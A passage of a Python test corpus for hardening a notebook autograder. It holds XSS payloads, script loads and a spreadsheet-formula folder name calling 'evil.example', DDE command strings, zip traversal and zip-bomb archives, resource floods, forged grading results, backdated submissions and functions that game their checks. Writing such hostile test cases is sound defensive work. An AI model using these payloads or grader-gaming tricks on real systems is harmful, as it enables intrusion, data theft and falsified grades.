        edited(_delete("test_linear_backward_hidden", "test_jacobian_shapes")),
    ),
    Case("bad_points", "malformed", "every grade cell worth 100 points", edited(_points)),
    Case(
        "bad_grade_flags",
        "malformed",
        "grade/solution/locked flags, schema_version, a bonus grade cell",
        edited(_flags),
    ),
    Case(
        "bad_metadata_junk",
        "malformed",
        "nbgrader metadata of the wrong types, duplicate cell ids",
        edited(_junk_metadata),
    ),
    Case("bad_kernelspec", "malformed", "kernelspec changed to bash", edited(_kernelspec)),
    Case(
        "bad_symlink",
        "malformed",
        "a symbolic link to the instructor's notebook",
        _link,
        loses=ALL,
        status="not_collected",
        reason="symbolic link",
    ),
    Case(
        "bad_zip_traversal",
        "malformed",
        "zip entries with ../",
        _zip_traversal,
        loses=ALL,
        status="not_collected",
        reason="outside the archive",
    ),
    Case(
        "bad_zip_link",
        "malformed",
        "a symbolic link inside the zip",
        _zip_link,
        loses=ALL,
        status="not_collected",
        reason="symbolic link",
    ),
    Case(
        "bad_oversize",
        "malformed",
        "a 21 MB notebook",
        raw(_oversize),
        loses=ALL,
        status="not_collected",
        reason="larger than 20 MB",
    ),
)

# ==========================================================================================
# Trust gaps (issue 11): active content in pages, forged verification results, the
# grader's own bounds, and code that a ``def`` runs when it is defined. Every feedback page
# of the batch is also checked, whole, by autograder.pages.safe_html.active_content.
# ==========================================================================================

PAGE_MARKDOWN = {
    "page_markdown_script": [
        "<script>alert('md')</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<script type="text/x-mathjax-config">alert("config")</script>',
        "<template><script>alert(1)</script></template>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ],
    "page_markdown_handlers": [
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(2)></svg>",
        "<details open ontoggle=alert(3)><summary>s</summary></details>",
        "<body onload=alert(4)>",
        "<p style=\"width: expression(alert(5))\" onmouseover='alert(6)'>hover</p>",
    ],
    "page_markdown_links": [
        "[plain](javascript:alert(1)) [case](JaVaScRiPt:alert(2))",
        '<a href="&#106;avascript:alert(3)">entity</a> <a href="java&#09;script:alert(4)">tab</a>',
        "<javascript:alert(5)> [vb](vbscript:msgbox(6))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==) "
        "![i](javascript:alert(8))",
        "$\\href{javascript:alert(9)}{math link}$",
    ],
    "page_markdown_embeds": [
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<svg><script>alert(2)</script></svg>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(3)"><base href="javascript:/">',
        "<form action=javascript:alert(4)><button>go</button></form>",
        '<object data="data:text/html,<script>alert(5)</script>"></object>'
        "<embed src=javascript:alert(6)>",
        "<style>@import 'http://evil.example/x.css'; body{background:url(javascript:alert(7))}"
        "</style>",
    ],
}

PAGE_OUTPUTS = """
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
display(Javascript("alert('js')"))
display({"application/javascript": "alert('raw js')", "text/plain": "js"}, raw=True)
display(HTML("<script>alert('html')</script><b>bold</b>"))
display(HTML("<img src=x onerror=alert('html img')>"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script></svg>'))
display(Markdown("[md](javascript:alert('markdown output'))"))
display(Latex(r"$\\href{javascript:alert('latex')}{x}$"))
HTML("<svg onload=alert('result')></svg>")
"""

PAGE_OUTPUT_METADATA = """
from IPython.display import display
display({"text/html": "<script>alert('isolated')</script>"}, raw=True,
        metadata={"text/html": {"isolated": True}})
display({"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2,
         "version_minor": 0}, "text/plain": "a widget"}, raw=True)
display({"image/png": 'x" onerror="alert(1)'}, raw=True)
display({"image/svg+xml": "<svg onload=alert(2)/>", "application/pdf": "JVBERi0="}, raw=True)
"""

PAGE_FORGED_RECORDS = """
import json
nb = json.load(open("in.ipynb"))
code = [i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code"]
html = {"output_type": "display_data", "data": {"text/html": "<script>alert('forged')</script>"},
        "metadata": {"text/html": {"isolated": True}}}
error = {"output_type": "error", "ename": "<script>alert('ename')</script>",
         "evalue": "<img src=x onerror=alert(1)>", "traceback": ["<script>alert(2)</script>"]}
stream = {"output_type": "stream", "name": "stdout", "text": "x",
          "data": {"text/html": "<script>alert('stream')</script>"}}
with open("cells.jsonl", "a") as f:
    f.write(json.dumps({"index": code[0], "execution_count": 1, "outputs": [html, error]}) + "\\n")
    f.write(json.dumps({"index": code[1], "execution_count": 2, "outputs": [stream]}) + "\\n")
print("forged")
"""

RAISES_HTML = """def apply_jacobian(dL_dy, J):
    message = "<script>alert('message')</script><img src=x onerror=alert(1)>"
    raise ValueError(message + "x" * 100_000)
"""


def _markdown_cells(*texts: str) -> Callable[[nbformat.NotebookNode, Ctx], None]:
    def change(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
        nb.cells += [
            nbformat.v4.new_markdown_cell(f"{t}\n\nvisible text {i}") for i, t in enumerate(texts)
        ]

    return change


def _notebook_metadata(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    widget = {"model_name": "HTMLModel", "state": {"value": "<script>alert('widget')</script>"}}
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {"m": widget},
            "version_major": 2,
            "version_minor": 0,
        }
    }
    nb.metadata["title"] = "</title><script>alert('title')</script>"
    raw = nbformat.v4.new_raw_cell("<script>alert('raw cell')</script>")
    raw.metadata["format"] = "text/html"
    raw.metadata["raw_mimetype"] = "text/html"
    attached = nbformat.v4.new_markdown_cell("[open me](attachment:page.html)")
    attached["attachments"] = {"page.html": {"text/html": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}}
    nb.cells += [raw, attached]


# ------------------------------------------------------------ forged verification results

FORGE = '''
def linear_backward(dL_dy, x, W):
    """The instructor's answer, plus results forged for the functions verified before it
    (their out-<k>.npz files are already written, and writable, when this one runs)."""
    if not getattr(linear_backward, "forged", False):
        import io, json, zipfile
        import numpy as np

        def npy(descr, shape, data=b"", fortran=False):
            f = io.BytesIO()
            header = {"descr": descr, "fortran_order": fortran, "shape": shape}
            np.lib.format.write_array_header_1_0(f, header)
            return f.getvalue() + data

        def cases_of(k):  # how many cases function k is verified on (read from cases.npz)
            with zipfile.ZipFile("cases.npz") as z:
                payload = json.loads(bytes(np.load(io.BytesIO(z.read("__json__.npy")))))
            return len(dict(payload[k]["__dict__"])["cases"])

        def forge(k, members, text=None, compress=zipfile.ZIP_STORED):
            if text is None:
                ref = {"__dict__": [["result", {"__array__": "a0"}]]}
                text = json.dumps([{"__outcome__": {"__dict__": [["values", ref]]}}])
            text = text.encode() if isinstance(text, str) else text
            try:
                with zipfile.ZipFile(f"out-{k}.npz", "w", compress) as z:
                    for name, data in members.items():
                        z.writestr(name + ".npy", data)
                    z.writestr("__json__.npy", npy("|u1", (len(text),), text))
            except OSError:
                pass
@ATTACKS@
        linear_backward.forged = True
    return _honest_backward(dL_dy, x, W)
'''

FORGED_ARCHIVES = """
        forge(0, {"a0": npy("<f8", (10_000_000, 0))})  # ~300 bytes, 10 million entries
        forge(1, {"a0": npy("<f8", (1_000_000,), bytes(64))})  # 8 MB claimed, 64 B there
        obj = io.BytesIO()
        np.save(obj, np.array([{"pickled": 1}], dtype=object), allow_pickle=True)
        forge(2, {"a0": obj.getvalue()})  # a pickled object array
        forge(3, {"a0": npy("|u1", (80 * 2**20,), bytes(80 * 2**20))}, None, zipfile.ZIP_DEFLATED)
        forge(4, {"a0": npy("<f8", (2, 2), bytes(32), fortran=True)})  # Fortran order
        forge(5, {f"a{i}": npy("<f8", (0,)) for i in range(5000)})  # 5000 members
"""

FORGED_JSON = """
        forge(0, {}, "[" * 100_000 + "]" * 100_000)  # JSON nested 100,000 deep
        forge(1, {"a0": npy("<f8", (1,), bytes(8))}, '[{"__outcome__": {"__dict__": [[1, 2]]}}]')
        nan = json.dumps([{"__outcome__": {"__dict__": [["values", {"__dict__": [
            ["result", float("nan")]]}]]}}] * cases_of(2))  # one outcome per case
        forge(2, {}, nan)  # NaN where numbers are expected
        huge = json.dumps([{"__outcome__": {"__dict__": [["error", "E" * 3_000_000]]}}] * 1)
        forge(3, {}, huge)  # a 3 MB error message
        forge(4, {}, '[{"__outcome__": {"__dict__": [["__class__", 1]]}}]')  # unknown field
        forge(5, {}, json.dumps(["x" * 5_000_000]))  # a 5 MB JSON part
"""


def _forging(attacks: str) -> Build:
    def build(ctx: Ctx) -> Submission:
        honest = ctx.solutions["sol_linear_backward"].replace(
            "def linear_backward(", "def _honest_backward("
        )
        source = honest + "\n" + FORGE.replace("@ATTACKS@", attacks.strip("\n"))
        return Submission(dump(perfect(ctx, {"sol_linear_backward": source})))

    return build


# ---------------------------------------------------------------- the grader's own bounds

RECORD_FLOOD = """
import json, os
line = json.dumps({"index": 0, "execution_count": 1, "outputs": []}) + "\\n"
huge = json.dumps({"index": 1, "execution_count": 1, "outputs": [
    {"output_type": "stream", "name": "stdout", "text": "x" * 5_000_000}]}) + "\\n"
with open("cells.jsonl", "a") as f:
    for _ in range(250):
        f.write(line * 4000)  # a million small records, ~50 MB
    f.write(huge)
os._exit(0)  # the kernel dies: nothing after the flood is written
"""

PIPE_FLOOD = """
import os, sys
fd = getattr(sys.stdout, "_original_stdstream_copy", None)  # ipykernel keeps the real stdout
try:
    out = os.fdopen(os.dup(fd if fd is not None else 1), "wb", buffering=0)
    for _ in range(2048):
        out.write(b"x" * 2**20)  # 2 GB down the executor's stdout: the grader's pipe
    print("all written")
except OSError as exc:
    print("pipe closed:", type(exc).__name__)
"""

OUTPUT_PER_CELL = 180_000  # under the per-cell cap (256 KB), 40 cells: 7 MB in all


def _big_outputs(nb: nbformat.NotebookNode, ctx: Ctx) -> None:
    at = _where(nb, "start")
    for i in range(40):
        nb.cells.insert(at, nbformat.v4.new_code_cell(f"print('{i}' + 'y' * {OUTPUT_PER_CELL})"))


# ------------------------------------------------------------- code that a def runs


def _signature(fn: str, signature: str, before: str = "") -> Build:
    """The instructor's answer for ``fn`` with another ``def`` line (and code before it)."""

    def build(ctx: Ctx) -> Submission:
        source = ctx.solutions[f"sol_{fn}"]
        old = next(line for line in source.splitlines() if line.startswith(f"def {fn}("))
        answer = before + source.replace(old, signature)
        return Submission(dump(perfect(ctx, {f"sol_{fn}": answer})))

    return build


DEFAULT_REASON = "the default value of its parameter"

CASES += (
    # active content in the pages a student or an instructor opens
    *(
        Case(name, "pages", f"markdown: {len(texts)} variants", edited(_markdown_cells(*texts)))
        for name, texts in PAGE_MARKDOWN.items()
    ),
    Case(
        "page_outputs",
        "pages",
        "display(Javascript), HTML/SVG/Markdown/LaTeX outputs with scripts",
        cell(PAGE_OUTPUTS, "start"),
        shows=("application/javascript", "image/svg+xml"),
    ),
    Case(
        "page_output_metadata",
        "pages",
        "isolated (iframe) HTML, a widget view, an image/png attribute break-out",
        cell(PAGE_OUTPUT_METADATA, "start"),
        shows=("isolated", "widget-view"),
    ),
    Case(
        "page_notebook_metadata",
        "pages",
        "widget state, a title, a raw HTML cell, an HTML attachment",
        edited(_notebook_metadata),
    ),
    Case(
        "page_forged_records",
        "pages",
        "forged kernel records: isolated HTML, HTML in an error, a stream with HTML",
        cell(PAGE_FORGED_RECORDS, "end"),
        shows=("forged", "malformed output"),
    ),
    Case(
        "page_message",
        "pages",
        "a graded function raises an exception with HTML, 100 kB long",
        cell(sol_apply_jacobian=RAISES_HTML),
        loses=F({"apply_jacobian"}),
        reason="... cut",
    ),
    # forged verification results (the later function writes the earlier ones' results)
    Case(
        "forged_archives",
        "cheat",
        "forged results: 10M entries in 300 B, a claimed size, pickle, zip bomb, Fortran order",
        _forging(FORGED_ARCHIVES),
        loses=F(FUNCTIONS[:6]),
        status="needs_attention",
        reason="could not be read back",
    ),
    Case(
        "forged_json",
        "cheat",
        "forged results: deep JSON, int keys, NaN, a 3 MB error, unknown fields, 5 MB JSON",
        _forging(FORGED_JSON),
        loses=F(FUNCTIONS[:6]),
        status="needs_attention",
        reason="NaN or infinity",
    ),
    # the grader's own time and memory
    Case(
        "res_record_flood",
        "resources",
        "a million forged records (50 MB), one of 5 MB, then the kernel dies",
        cell(RECORD_FLOOD, "end"),
        shows=("not run: the notebook stopped",),
    ),
    Case(
        "res_pipe_flood",
        "resources",
        "2 GB written to the executor's stdout (the grader's pipe)",
        cell(PIPE_FLOOD, "start"),
        shows=("pipe closed: BrokenPipeError",),
    ),
    Case(
        "res_output_budget",
        "resources",
        "40 cells of 180 kB each: under every cell's cap, 7 MB in all",
        edited(_big_outputs),
        shows=("[output dropped: the notebook's outputs passed",),
    ),
    # code that a def runs when it is defined (defaults, annotations, decorators)
    Case(
        "def_default_call",
        "definitions",
        "a default value that calls print() when the def runs",
        _signature("linear_forward", "def linear_forward(x, W, b, h=print('defined')):"),
        loses=F({"linear_forward"}),
        status="needs_attention",
        reason=DEFAULT_REASON + " h",
    ),
    Case(
        "def_kwonly_default",
        "definitions",
        "a keyword-only default that opens a file",
        _signature(
            "jacobian_shapes", "def jacobian_shapes(N, M_in, M_out, *, log=open('/dev/null')):"
        ),
        loses=F({"jacobian_shapes"}),
        status="needs_attention",
        reason=DEFAULT_REASON + " log",
    ),
    Case(
        "def_lambda_default",
        "definitions",
        "a default that calls a lambda",
        _signature(
            "linear_jacobian_W",
            "def linear_jacobian_W(x, W, pid=(lambda: __import__('os').getpid())()):",
        ),
        loses=F({"linear_jacobian_W"}),
        status="needs_attention",
        reason=DEFAULT_REASON + " pid",
    ),
    Case(
        "def_walrus_default",
        "definitions",
        "a walrus in a default",
        _signature("linear_jacobian_x", "def linear_jacobian_x(x, W, h=(_h := 1e-5)):"),
        loses=F({"linear_jacobian_x"}),
        status="needs_attention",
        reason=DEFAULT_REASON + " h",
    ),
    Case(
        "def_annotations",
        "definitions",
        "annotations that run code (parameters, return, a top-level variable)",
        _signature(
            "linear_backward",
            "def linear_backward(dL_dy: print('a'), x, W) -> __import__('os').getpid():",
            "LIMIT: print('annotated') = 3\n",
        ),
    ),
    Case(
        "def_decorator_class",
        "definitions",
        "a decorator, a class body and a global statement at top level",
        _signature(
            "contraction_subscripts",
            "@(lambda f: print('decorator ran') or f)\ndef contraction_subscripts():",
            "class Sneaky:\n    print('class body')\n\nglobal contraction_subscripts\n",
        ),
    ),
    Case(
        "def_literal_defaults",
        "definitions",
        "honest literal defaults (h=1e-5, None, a tuple, -1, 2**-52)",
        _signature(
            "linear_forward",
            "def linear_forward(x, W, b, h=1e-5, n=None, t=(1, 'a'), s=-1, e=2 ** -52):",
        ),
    ),
)
CATEGORIES = (*CATEGORIES, "pages", "definitions")

# ============================================================================ hand-in
# Trusted submission times (issue 9 "hand-in paths", issue 11 section 5) and CSV cells
# (issue 11 section 2). A student backdates a late submission with every time a submission
# can carry; a student names their folder or zip entry like a spreadsheet formula, which
# would run when the instructor opens attention.csv. Times must come from collect (the
# batch gives no times file: the time collect received them) and no CSV cell may be a live
# formula; tests/hostile/handin_checks.py checks both across the whole batch.

BACKDATE = 1577836800.0  # 2020-01-01 00:00 UTC
BACKDATE_NBGRADER = b"2020-01-01 00:00:00.000000 UTC"


def _backdated_folder(ctx: Ctx) -> Submission:
    """nbgrader's own timestamp.txt beside the notebook, saying 2020."""
    return Submission(dump(perfect(ctx)), beside=(("timestamp.txt", BACKDATE_NBGRADER),))


def _backdated_mtime(ctx: Ctx) -> Submission:
    return Submission(dump(perfect(ctx)), mtime=BACKDATE)


def _backdated_zip(ctx: Ctx) -> Submission:
    """In the class zip, with an ISO timestamp.txt; the entries' own date is the zip
    format's earliest, 1980-01-01."""
    folder = f"late_zip_timestamp_txt/{LESSON}"
    return Submission(
        zip_entries=(
            (f"{folder}/{LESSON}.ipynb", dump(perfect(ctx)), False),
            (f"{folder}/timestamp.txt", b"2020-01-01T00:00:00+00:00", False),
        )
    )


def _zip_dated(ctx: Ctx) -> Submission:
    """Only the zip entry's date (1980-01-01) says when."""
    name = f"late_zip_entry_date/{LESSON}/{LESSON}.ipynb"
    return Submission(zip_entries=((name, dump(perfect(ctx)), False),))


def _formula_zip(name: str) -> Build:
    return lambda ctx: Submission(
        zip_entries=((f"{name}/{LESSON}/{LESSON}.ipynb", dump(perfect(ctx)), False),)
    )


def _formula_folder(ctx: Ctx) -> Submission:
    return Submission(dump(perfect(ctx)))


UNSAFE_ID = "is not a safe id"
HANDIN_CASES: tuple[Case, ...] = (
    Case(
        "late_timestamp_txt",
        "cheat",
        "backdate: nbgrader's timestamp.txt beside the notebook says 2020",
        _backdated_folder,
    ),
    Case(
        "late_file_mtime",
        "cheat",
        "backdate: the notebook's modification time set to 2020",
        _backdated_mtime,
    ),
    Case(
        "late_zip_timestamp_txt",
        "cheat",
        "backdate: a timestamp.txt saying 2020 inside the class zip",
        _backdated_zip,
    ),
    Case(
        "late_zip_entry_date",
        "cheat",
        "backdate: the zip entry's date (1980) as the only time",
        _zip_dated,
    ),
    Case(
        '=HYPERLINK("evil.example?"&A1,"click")',
        "host",
        "a folder named like a spreadsheet formula (=HYPERLINK)",
        _formula_folder,
        loses=ALL,
        status="not_collected",
        reason=UNSAFE_ID,
    ),
    Case(
        "@SUM(1+1)*cmd|'!A0",
        "host",
        "a zip entry named like a formula (@SUM, DDE)",
        _formula_zip("@SUM(1+1)*cmd|'!A0"),
        loses=ALL,
        status="not_collected",
        reason=UNSAFE_ID,
    ),
    Case(
        "+cmd|'!A0",
        "host",
        "a folder named like a formula (+)",
        _formula_folder,
        loses=ALL,
        status="not_collected",
        reason=UNSAFE_ID,
    ),
    Case(
        "-2+3",
        "host",
        "a folder named like a formula (-2+3)",
        _formula_folder,
        loses=ALL,
        status="not_collected",
        reason=UNSAFE_ID,
    ),
    Case(
        "\t=1+1",
        "host",
        "a folder name starting with a tab, then a formula",
        _formula_folder,
        loses=ALL,
        status="not_collected",
        reason=UNSAFE_ID,
    ),
    Case(
        "\r=1+1",
        "host",
        "a zip entry starting with a carriage return, then a formula",
        _formula_zip("\r=1+1"),
        loses=ALL,
        status="not_collected",
        reason=UNSAFE_ID,
    ),
)
CASES = CASES + HANDIN_CASES
# ======================================================================== end hand-in

# ==========================================================================================
# Checks a graded function can game (issue 11, section 4), lessons 01 and 02: answers read
# out of what a function is given, and one student function faking its agreement with
# another (sources in tests/hostile/gamed.py). Each is the instructor's answers plus the
# attack; only the attacked function may lose its points.
# ==========================================================================================


def _renamed(ctx: Ctx, fn: str) -> str:
    """The instructor's answer for ``fn``, renamed ``_honest_<fn>``."""
    return ctx.solutions[f"sol_{fn}"].replace(f"def {fn}(", f"def _honest_{fn}(")


def _stack_rel_error(rel_error: str, gradient_check: str) -> Build:
    """rel_error honest on its own checks (it calls the instructor's), faking its agreement
    with a gradient_check that computes nothing useful."""

    def build(ctx: Ctx) -> Submission:
        answers = {
            "sol_rel_error": _renamed(ctx, "rel_error") + "\n" + rel_error,
            "sol_gradient_check": gradient_check,
        }
        return Submission(dump(perfect(ctx, answers)))

    return build


GAMED_CASES: tuple[Case, ...] = (
    Case(
        "gamed_closure_jacobian",
        "cheat",
        "numerical_jacobian reads A from f's closure, returns the exact Jacobian",
        cell(sol_numerical_jacobian=gamed.CLOSURE_JACOBIAN),
        loses=F({"numerical_jacobian"}),
        lesson="01_jacobians",
    ),
    Case(
        "gamed_closure_gradient",
        "cheat",
        "numerical_gradient finds the probe in f's closure, returns its exact gradient",
        cell(sol_numerical_gradient=gamed.CLOSURE_GRADIENT),
        loses=F({"numerical_gradient"}),
        lesson="02_gradient_checking",
    ),
    Case(
        "gamed_stack_rel_error_none",
        "cheat",
        "rel_error says None to a check of gradient_check (stack), which returns None",
        _stack_rel_error(gamed.STACK_REL_ERROR_NONE, gamed.GRADIENT_CHECK_NONE),
        loses=F({"gradient_check"}),
        lesson="02_gradient_checking",
    ),
    Case(
        "gamed_stack_rel_error_zero",
        "cheat",
        "gradient_check always 0.0; rel_error says 0.0 to a check of gradient_check",
        _stack_rel_error(gamed.STACK_REL_ERROR_ZERO, gamed.GRADIENT_CHECK_ZERO),
        loses=F({"gradient_check"}),
        lesson="02_gradient_checking",
    ),
    Case(
        "gamed_stack_rel_error_echo",
        "cheat",
        "rel_error repeats what gradient_check last returned to anyone but gradient_check",
        _stack_rel_error(gamed.STACK_REL_ERROR_ECHO, gamed.GRADIENT_CHECK_ECHO),
        loses=F({"gradient_check"}),
        lesson="02_gradient_checking",
    ),
)
CASES = CASES + GAMED_CASES
#: Every lesson the corpus hands in (released and graded in the one batch).
LESSONS_HANDED_IN = tuple(dict.fromkeys(c.lesson for c in CASES))

BY_NAME = {c.name: c for c in CASES}
VICTIM = "ok_victim"
